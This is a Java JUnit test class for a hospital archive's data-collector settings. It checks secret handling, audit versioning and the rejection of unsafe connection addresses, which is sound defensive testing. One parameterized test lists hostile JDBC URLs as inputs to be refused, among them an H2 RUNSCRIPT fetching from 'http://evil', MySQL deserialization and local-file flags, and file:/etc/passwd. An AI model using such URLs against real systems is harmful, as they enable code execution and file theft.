package org.anjuan.ingest.collect.collector;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import java.util.List;
import java.util.Map;
import org.anjuan.archive.access.Actor;
import org.anjuan.archive.audit.AuditAction;
import org.anjuan.archive.audit.AuditTrail;
import org.anjuan.archive.platform.InvalidValue;
import org.anjuan.ingest.CollectingHospital;
import org.anjuan.ingest.collect.channel.ChannelSettings;
import org.anjuan.ingest.collect.channel.FtpSettings;
import org.anjuan.ingest.collect.channel.HttpPullSettings;
import org.anjuan.ingest.collect.channel.JdbcSettings;
import org.anjuan.ingest.collect.channel.Secret;
import org.anjuan.ingest.collect.collector.CollectorRefused.Reason;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.data.mongodb.core.MongoOperations;

@Tag("ING-1")
@Tag("ING-6")
class CollectorsTests extends CollectingHospital {
  private static final Actor ADMIN = Actor.system("test");
  private static final Map<Secret, String> PASSWORD = Map.of(Secret.PASSWORD, "s3cret-of-lis");

  @Autowired private Collectors collectors;
  @Autowired private AuditTrail trail;
  @Autowired private MongoOperations mongo;

  @Test
  @Tag("SEC-1")
  void aSecretGoesInAndIsNeitherShownNorStoredInClear() {
    var added = collectors.add(ADMIN, Plans.plan("LIS", ftp("lis.hospital")), PASSWORD);

    assertThat(added.secrets()).containsExactly(Secret.PASSWORD);
    assertThat(added.toString()).doesNotContain("s3cret");
    assertThat(collectors.credentials(added.id()).get(Secret.PASSWORD)).isEqualTo("s3cret-of-lis");
    assertThat(collectors.credentials(added.id()).toString()).doesNotContain("s3cret");
    for (var collection : List.of("collectors", "collector_versions")) {
      for (var stored : mongo.getCollection(collection).find()) {
        assertThat(stored.toJson()).doesNotContain("s3cret");
      }
    }
  }

  @Test
  void everyChangeIsAVersionAndOnRecord() {
    var first = collectors.add(ADMIN, Plans.plan("PACS", ftp("pacs.hospital")), PASSWORD);
    var delayed = Plans.with(first.plan(), new Delay(Delay.Since.CHANGE, 90));
    var second = collectors.change(ADMIN, first.id(), 1, delayed, Map.of());

    assertThat(second.version()).isEqualTo(2);
    assertThat(collectors.history(first.id()))
        .extracting(kept -> kept.plan().delay().minutes())
        .containsExactly(90, 0);
    assertThat(everything(trail))
        .filteredOn(entry -> entry.event().action() == AuditAction.COLLECTOR_CHANGED)
        .filteredOn(entry -> String.valueOf(entry.event().detail()).contains(first.id().value()))
        .hasSize(2)
        .noneMatch(entry -> String.valueOf(entry.event().detail()).contains("s3cret"));
  }

  @Test
  void whoChangesAnOldVersionIsTold() {
    var first = collectors.add(ADMIN, Plans.plan("EMR", ftp("emr.hospital")), PASSWORD);
    collectors.change(ADMIN, first.id(), 1, first.plan(), Map.of());

    assertThat(refusal(() -> collectors.change(ADMIN, first.id(), 1, first.plan(), Map.of())))
        .isEqualTo(Reason.CHANGED_MEANWHILE);
  }

  @Test
  @Tag("SEC-1")
  void aSecretDoesNotFollowAChangedAddress() {
    var first = collectors.add(ADMIN, Plans.plan("ECG", ftp("ecg.hospital")), PASSWORD);
    var elsewhere = Plans.plan("ECG", ftp("thief.example"));

    assertThat(refusal(() -> collectors.change(ADMIN, first.id(), 1, elsewhere, Map.of())))
        .isEqualTo(Reason.SECRET_NEEDED);
    assertThat(collectors.change(ADMIN, first.id(), 1, elsewhere, PASSWORD).version()).isEqualTo(2);
  }

  @Test
  void withoutTheSecretItNeedsItIsNotSetUp() {
    var refused =
        catchThrowableOfType(
            InvalidValue.class,
            () -> collectors.add(ADMIN, Plans.plan("BB", ftp("bb.hospital")), Map.of()));
    assertThat(refused.field()).isEqualTo("secrets.PASSWORD");
  }

  @Test
  void everyKindOfChannelComesBackAsItWasEntered() {
    for (var channel : List.of(ftp("x.hospital"), http("https://lis/api/list?p={since}"), view())) {
      var plan = Plans.plan("ALL", channel);
      var secrets = Map.of(Secret.PASSWORD, "p", Secret.TOKEN, "t");
      var added = collectors.add(ADMIN, plan, secrets);
      assertThat(collectors.find(added.id()).orElseThrow().plan()).isEqualTo(plan);
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
        "jdbc:mysql://h/db?autoDeserialize=true",
        "jdbc:mysql://h/db?allowLoadLocalInfile=true",
        "jdbc:postgresql://h/db?socketFactory=org.springframework.X",
        "jdbc:oracle:thin:@h:1521/x?password=p",
        "file:/etc/passwd"
      })
  @Tag("SEC-9")
  void anAddressByWhichADriverRunsCodeIsRefused(String url) {
    var refused =
        catchThrowableOfType(
            InvalidValue.class,
            () ->
                new JdbcSettings(
                    url,
                    "u",
                    "select 1",
                    "id",
                    null,
                    0,
                    null,
                    "select c from t where id = ?",
                    null));
    assertThat(refused.field()).isEqualTo("channel.url");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "ftp://lis/list",
        "http://u:p@lis/list",
        "http://{since}/list",
        "list",
        "file:///x"
      })
  @Tag("SEC-9")
  void anAddressThatIsNoPlainWebAddressIsRefused(String list) {
    assertThat(catchThrowableOfType(InvalidValue.class, () -> http(list)).field())
        .isEqualTo("channel.list");
  }

  private static Reason refusal(org.assertj.core.api.ThrowableAssert.ThrowingCallable deed) {
    return catchThrowableOfType(CollectorRefused.class, deed).reason();
  }

  private static ChannelSettings ftp(String host) {
    return new FtpSettings(
        host, 21, FtpSettings.Security.EXPLICIT, "u", "/out", true, "GBK", null, 10);
  }

  private static ChannelSettings http(String list) {
    return new HttpPullSettings(
        list,
        null,
        "$.data.list[*]",
        new HttpPullSettings.EntryFields("$.id", null, "$.mtime", null, null, null),
        "/api/file/{id}",
        new HttpPullSettings.NextLink("$.next"),
        new HttpPullSettings.Header("X-Token"),
        null,
        null);
  }

  private static ChannelSettings view() {
    return new JdbcSettings(
        "jdbc:oracle:thin:@db:1521/emr",
        "anjuan",
        "select * from v_reports",
        "report_id",
        "updated",
        10,
        "file_name",
        "select content from v_content where report_id = ?",
        "select * from v_reports where zyh = :admissionNo");
  }
}
